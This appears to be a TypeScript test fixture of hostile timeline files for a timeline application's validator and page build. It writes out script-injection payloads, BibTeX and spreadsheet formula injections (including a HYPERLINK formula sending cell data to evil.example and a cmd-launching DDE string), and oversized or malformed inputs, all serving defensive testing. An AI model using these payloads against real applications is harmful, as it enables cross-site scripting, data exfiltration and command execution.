// Hostile timelines: each one a small valid timeline with one thing an author (or an attacker who
// hands a teacher a file) could put in it. Those the validator must refuse say where it must point;
// the others are built and their pages opened (hostile.test.ts, write-cases.ts).
import type { TimelineInput } from '../../src/lib/schema/timeline';
import { validTimeline } from '../../src/lib/validate/test-fixture';

type Timeline = TimelineInput & { $schema?: string };

/** A case the validator refuses: the problem's path and what its message says. */
export interface Refused {
	name: string;
	bytes: Buffer;
	path: RegExp;
	message: RegExp;
	/** The line the problem must be reported on, where the file's text makes it certain. */
	line?: number;
}

/** A case the validator accepts: built under /t/<name>/, with the event to open. */
export interface Accepted {
	name: string;
	timeline: Timeline;
	event: string;
	/** Text the opened event's title must show, exactly as written in the data. */
	shows: string;
	/** Written with a UTF-8 byte-order mark, as some editors save. */
	bom?: boolean;
}

/** The fixture with a story (so seminar mode is built) and a milestone. */
export function base(): Timeline {
	const timeline: Timeline = validTimeline();
	timeline.stories = [
		{
			id: 'walk',
			title: 'A walk',
			steps: [
				{ caption: 'The start', event: 'first' },
				{ caption: 'Later', range: { from: '2005', to: '2017' } }
			]
		}
	];
	timeline.milestones = [{ id: 'turn', label: 'A turn', event: 'first' }];
	return timeline;
}

function withFirst(change: (event: Timeline['events'][number], t: Timeline) => void): Timeline {
	const timeline = base();
	const first = timeline.events[0];
	if (!first) throw new Error('the fixture has no event');
	change(first, timeline);
	return timeline;
}

const text = (timeline: Timeline) => JSON.stringify(timeline, null, '\t');
const utf8 = (value: string) => Buffer.from(value, 'utf8');

/** The fixture's text with its first event's title replaced by raw JSON (escapes as written). */
function titleAs(raw: string): Buffer {
	const source = text(base());
	return utf8(source.replace('"title": "First event"', `"title": ${raw}`));
}

/** The line of the first event's title in the fixture's text. */
const TITLE_LINE =
	text(base())
		.split('\n')
		.findIndex((line) => line.includes('"First event"')) + 1;

/** A value nested `depth` arrays deep. */
const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);

export const SCRIPTED = '<img src=x onerror="window.injected=1"><script>window.injected=1</script>';

export const ACCEPTED: Accepted[] = [
	{
		// An HTML comment opener followed by <script> swallows a document's inline script.
		name: 'comment-opener',
		timeline: withFirst((event, t) => {
			event.title = 'Comment opener <!--<script> in a title';
			t.meta.subtitle = '<!--<script>';
			t.lanes[0]!.label = 'Lane <!--<script>';
		}),
		event: 'first',
		shows: 'Comment opener <!--<script> in a title'
	},
	{
		name: 'script-text',
		timeline: withFirst((event, t) => {
			event.title = `</script>${SCRIPTED}`;
			event.claims[0]!.note = `</script>${SCRIPTED}`;
			t.references[0]!.title = `</script>${SCRIPTED}`;
			t.article!.claims[0]!.text = `</script>${SCRIPTED}`;
		}),
		event: 'first',
		shows: `</script>${SCRIPTED}`
	},
	{
		// JavaScript before ES2019 ended a string at U+2028; the right-to-left override reorders text.
		name: 'separators-and-overrides',
		timeline: withFirst((event) => {
			event.title = 'Line\u2028separator, paragraph\u2029separator, \u202Eright to left';
			event.summary = 'Line\u2028separator in *a summary*';
		}),
		event: 'first',
		shows: 'Line\u2028separator, paragraph\u2029separator, \u202Eright to left'
	},
	{
		// Two sources whose reference and locator run together into the same text.
		name: 'source-key-collision',
		timeline: withFirst((event, t) => {
			t.references.push(
				{ id: 'zz', type: 'book', title: 'Reference zz' },
				{ id: 'zz1', type: 'book', title: 'Reference zz1' }
			);
			event.sources = [{ ref: 'zz', locator: '1' }, { ref: 'zz1' }];
		}),
		event: 'first',
		shows: 'First event'
	},
	{
		// Values that would close a BibTeX field or start an entry, and spreadsheet formulas.
		name: 'export-injection',
		timeline: withFirst((event, t) => {
			t.references[1]!.DOI = '10.1234/x},note={INJECTED';
			t.references[1]!.URL = 'https://example.org/}},@misc{injected,title={X},';
			t.references[0]!.title = 'A book}, note = {INJECTED';
			event.title = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
			t.events[1]!.title = '@SUM(1+1)*cmd|" /C calc"!A0';
		}),
		event: 'first',
		shows: '=HYPERLINK("https://evil.example/?x="&A1,"click")'
	},
	{
		name: 'byte-order-mark',
		timeline: withFirst((event) => (event.title = 'Saved with a byte-order mark')),
		event: 'first',
		shows: 'Saved with a byte-order mark',
		bom: true
	},
	{
		// Years before 100 are years, not 1900 plus something.
		name: 'early-years',
		timeline: withFirst((event) => {
			event.date = '0044';
			event.title = 'An event in the year 44';
		}),
		event: 'first',
		shows: 'An event in the year 44'
	}
];

export const REFUSED: Refused[] = [
	{
		name: 'claim-linked-twice',
		bytes: utf8(
			text(
				withFirst((event) => {
					event.claims.push({ id: 'syria', relation: 'qualifies', note: 'Again.' });
				})
			)
		),
		path: /events\[0\]\.claims\[1\]/,
		message: /syria/
	},
	{
		name: 'sources-repeated',
		bytes: utf8(
			text(withFirst((event) => event.sources.push({ ref: 'ref-one', locator: 'p. 3' })))
		),
		path: /events\[0\]\.sources\[1\]/,
		message: /ref-one/
	},
	{
		name: 'actors-same-code',
		bytes: utf8(text(withFirst((_, t) => (t.meta.actors[1].code = 'IR')))),
		path: /meta\.actors\[1\]/,
		message: /IR/
	},
	{
		name: 'invalid-utf8',
		bytes: Buffer.concat([
			utf8(text(base()).split('"First event"')[0] + '"First '),
			Buffer.from([0xff, 0xfe, 0xc3, 0x28]),
			utf8('"' + text(base()).split('"First event"').slice(1).join('"First event"'))
		]),
		path: /.*/,
		message: /UTF-8/,
		line: TITLE_LINE
	},
	{
		name: 'nul',
		bytes: titleAs('"A NUL \\u0000 in a title"'),
		path: /events\[0\]\.title/,
		message: /control|NUL/i,
		line: TITLE_LINE
	},
	{
		name: 'lone-surrogate',
		bytes: titleAs('"submarines\\ud800"'),
		path: /events\[0\]\.title/,
		message: /surrogate/i,
		line: TITLE_LINE
	},
	{
		// The first value is invalid; a reader that keeps the last would never report it.
		name: 'duplicate-key',
		bytes: utf8(text(base()).replace('"id": "first",', '"id": "BAD ID!",\n\t\t\t"id": "first",')),
		path: /events\[0\]/,
		message: /"id".*(twice|more than once|duplicate)|duplicate.*"id"/i
	},
	{
		name: 'deep-nesting',
		bytes: utf8(
			text(base()).replace(
				'"title": "A book",',
				`"title": "A book",\n\t\t\t"deep": ${nested(5000)},`
			)
		),
		path: /.*/,
		message: /nest|deep/i
	},
	{
		name: 'utf16',
		bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text(base()), 'utf16le')]),
		path: /.*/,
		message: /UTF-8/
	},
	{
		// Emphasis markers by the thousand: a Markdown parser's worst case.
		name: 'summary-of-emphasis',
		bytes: utf8(text(withFirst((event) => (event.summary = '*a'.repeat(50_000))))),
		path: /events\[0\]\.summary/,
		message: /limit|long|characters/i
	},
	{
		name: 'summary-of-brackets',
		bytes: utf8(
			text(withFirst((event) => (event.summary = '['.repeat(50_000) + 'x' + ']'.repeat(50_000))))
		),
		path: /events\[0\]\.summary/,
		message: /limit|long|characters/i
	}
];

/** The timeline written as the default one, so the hostile build has a home page. */
export const HOME: Timeline = base();

/**
 * A Russian translation of some of the home timeline's text, with a payload in a translated title:
 * what it leaves out stays in English, and says so.
 */
export const HOME_RU = {
	format: 1,
	language: 'ru',
	reviewed: false,
	meta: { title: 'Тестовая хронология' },
	events: {
		first: {
			title: 'Первое событие <img src=x onerror="window.injected=1">',
			summary: 'Что-то *произошло*, [см.](https://example.org/ru)'
		}
	}
};
